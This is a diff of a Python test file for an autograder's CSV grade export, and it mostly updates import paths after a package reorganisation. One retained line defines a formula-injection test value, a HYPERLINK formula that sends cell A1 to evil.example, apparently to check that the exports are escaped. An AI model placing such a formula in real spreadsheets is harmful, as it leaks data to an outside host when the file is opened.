@@ -17,11 +17,12 @@ import pytest
 
 from support.slow import slow_fixture
 
-from autograder import export, totals
+from autograder.adapters import export
+from autograder.core import totals
 from autograder.pipeline.source_tests import SourceTests
 from conftest import ROOT
-from autograder.pipeline.write_results import csv_text
-from autograder.results import GRADES_COLUMNS
+from autograder.run.write import csv_text
+from autograder.core.results import GRADES_COLUMNS
 
 AUTOGRADER = os.path.join(os.path.dirname(sys.executable), "autograder")
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -39,7 +40,7 @@ AUTO_MAX = round(sum(p for _, _, p in TESTS), 2)            # every test, option
 SCHEME = totals.scheme(ROOT)
 OPTIONAL = {(c.notebook, c.grade_id) for c in SCHEME.cells if c.optional}
 REQUIRED_MANUAL = [m for m in MANUAL if m[:2] not in OPTIONAL]
-# The denominator: required points only (autograder.totals); optional work is earned above it.
+# The denominator: required points only (autograder.core.totals); optional work is earned above it.
 POSSIBLE = round(sum(p for nb, gid, p in TESTS + MANUAL if (nb, gid) not in OPTIONAL), 2)
 
 
@@ -236,7 +237,7 @@ def test_gradebook_is_found_in_the_course_directory(out_dir, gradebook):
 
 def test_export_is_light():
     """Importing the export (and the CLI's parser) pulls in neither torch nor nbgrader."""
-    code = ("import sys; import autograder.cli as c; c._parser(); import autograder.export;"
+    code = ("import sys; import autograder.cli.commands as c; c._parser(); import autograder.adapters.export;"
             "print(sorted(m for m in ('torch', 'nbgrader', 'numpy', 'dask') if m in sys.modules))")
     proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
     assert proc.stdout.strip() == "[]", proc.stdout + proc.stderr
@@ -244,7 +245,7 @@ def test_export_is_light():
 
 def test_csv_cells_roundtrip(out_dir, gradebook):
     """The generic CSV reads back to the same values through csv_uncell."""
-    from autograder.pipeline.write_results import csv_uncell
+    from autograder.run.write import csv_uncell
     scores, maxima = export.collect(out_dir, gradebook, warn=lambda m: None)
     text = export.generic_csv(scores, maxima)
     rows = list(csv.reader(io.StringIO(text)))
